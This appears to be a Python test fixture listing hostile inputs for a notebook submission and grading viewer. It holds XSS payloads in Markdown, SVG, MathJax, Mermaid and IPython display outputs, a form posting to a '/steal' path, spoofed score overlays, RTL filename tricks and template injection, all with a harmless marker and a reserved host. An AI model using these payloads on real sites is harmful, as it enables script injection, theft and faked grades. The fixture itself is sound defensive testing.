"""What a submission may bring that wants to run, to be fetched or to be mistaken for the page."""

# Whatever of this runs leaves a mark; `pages.Watch` looks for it.
RUN = "window.ran=1;document.title='ran';console.log('ran');alert(1)"
HOST = "http://192.0.2.1"  # reserved for documentation: nobody answers there

MARKDOWN = {
    "script": f"<script>{RUN}</script>",
    "script in words": f"text <ScRiPt src={HOST}/x.js>{RUN}</sCrIpT > text",
    "script unclosed": f"<scr<script>ipt>{RUN}//",
    "picture": f'<img src=x onerror="{RUN}">',
    "picture by Markdown": f'![a]({HOST}/pixel.png) ![b](x "" onerror="{RUN}")',
    "picture with quotes": f'![" onerror="{RUN}](x)',
    "missing attachment": "![my sketch](attachment:image.png)",
    "handler": f'<div onmouseover="{RUN}" onclick="{RUN}">here</div>',
    "handler that needs nobody": f'<details open ontoggle="{RUN}"><summary>x</summary></details>'
    f'<input autofocus onfocus="{RUN}"><marquee onstart="{RUN}">',
    "link": f"[click me](javascript:{RUN.replace('(', '%28').replace(')', '%29')})",
    "link spelled otherwise": "[x](JaVa&#x09;Script:window.ran=1) "
    f'<a href=" &#1;javascript:{RUN}">x</a>',
    "link as reference": "[x][1]\n\n[1]: javascript:window.ran=1",
    "link in brackets": "<javascript:window.ran=1> <vbscript:ran>",
    "link to data": f"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [y]({HOST}/)",
    "frame": f'<iframe src="javascript:parent.ran=1" srcdoc="<script>{RUN}</script>"></iframe>',
    "object": f'<object data="{HOST}/x.swf"></object><embed src="{HOST}/x"><applet code=x>',
    "form": f'<form action="{HOST}/steal"><button formaction="javascript:{RUN}">OK</button></form>',
    "svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x></svg>',
    "svg with a page inside": f'<svg><foreignObject><body onload="{RUN}"></foreignObject></svg>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={HOST}/"><base href="{HOST}/">',
    "style": f"<style>@import url({HOST}/x.css); body {{display: none}}</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:white;z-index:9999">'
    f'<span style="background:url({HOST}/x.png)">23 / 23</span></div>',
    "link to a style": f"<link rel=stylesheet href={HOST}/x.css><link rel=prefetch href={HOST}/y>",
    "page's own classes": '<div class="navbar-fixed-top modal in score" id="softmax-comment">'
    '<span class="score" id="test_softmax">Score: 23 / 23</span></div>',
    "end of the cell": f"</div></div></div></body></html><script>{RUN}</script>",
    "end of a comment": f"<!-- --!><img src=x onerror={RUN}> --><![CDATA[<script>{RUN}</script>]]>",
    "elements in elements": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    f'&lt;img src=1 onerror={RUN}&gt;"></table></mtext></math>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f"<template><script>{RUN}</script></template><textarea><script>{RUN}</script>",
    "code": f'```"><script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```',
    "code of mermaid": f'```mermaid\n</pre><img src=x onerror="{RUN}">\n```',
    "formula": f'$\\text{{<img src=x onerror="{RUN}">}}$ $<script>{RUN}</script>$',
    "formula with entities": f"$$\\text{{&lt;script&gt;{RUN}&lt;/script&gt;}}$$",
    "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$ $\\style{{position:fixed}}{{x}}$",
    "formula as environment": f"\\begin{{align}}<img src=x onerror={RUN}>\\end{{align}}",
    "table": f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    "heading": f"# <img src=x onerror={RUN}> <a name=top onclick={RUN}>x</a>",
    "jinja": "{{ 7 * 7 }} {% include 'x' %} {{ resources.base_url }}",
    "direction and steering": "\u202egnp.exe\u202c \x1b[31mred\x1b[0m \x00",
}

# A cell whose outputs want the same. `display` and the classes are IPython's.
CODE = f"""
from IPython.display import HTML, IFrame, Javascript, Markdown, display
run, host = {RUN!r}, {HOST!r}
page = f'<img src=x onerror="{{run}}"><script>{{run}}</script>'
for kind in (HTML, Markdown, Javascript):
    display(kind(page))
display(Javascript(run), IFrame(host, 10, 10))
svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{{run}}"/>'
display({{'image/svg+xml': svg, 'text/latex': f'${{page}}$'}}, raw=True)
display({{'image/png': f'x" onerror="{{run}}', 'text/plain': page}}, raw=True)
display({{'image/png': 'iVBORw0KGgo=', 'text/html': page}}, raw=True,
        metadata={{'image/png': {{'width': f'1 onerror={{run}}', 'alt': f'" onerror="{{run}}'}}}})
display({{'application/pdf': page, 'text/vnd.mermaid': page}}, raw=True)
print(page, f'\\x1b[31mred\\x1b]8;;{{host}}\\x07link\\x1b]8;;\\x07', 'x' * 500)
steered = '\u202egnp.exe\u202c'
class Shown:
    def _repr_html_(self): return page
    def _repr_mimebundle_(self, **k): return {{'text/html': page}}
    def __repr__(self): return page
Shown()
"""

# An answer whose error says it, in the box of the finding and in the comment below the answer.
ANSWER = f"""
def entropy(frequencies):
    raise ValueError('''<img src=x onerror="{RUN}"> [x](javascript:{RUN}) \\x1b[31m''')
"""
TYPE = f"""
def softmax(logits):
    return type({f"<img src=x onerror={RUN}>"!r}, (), {{}})()
"""

FOLDERS = [
    f"<img src=x onerror={RUN.replace('/', '')}>?",
    '"><svg onload=window.ran=1>#',
    "x' onmouseover='window.ran=1&",
]
FILES = [f"<img src=x onerror={RUN}>.ipynb", "\x1b[31mred.html", "evil.html"]
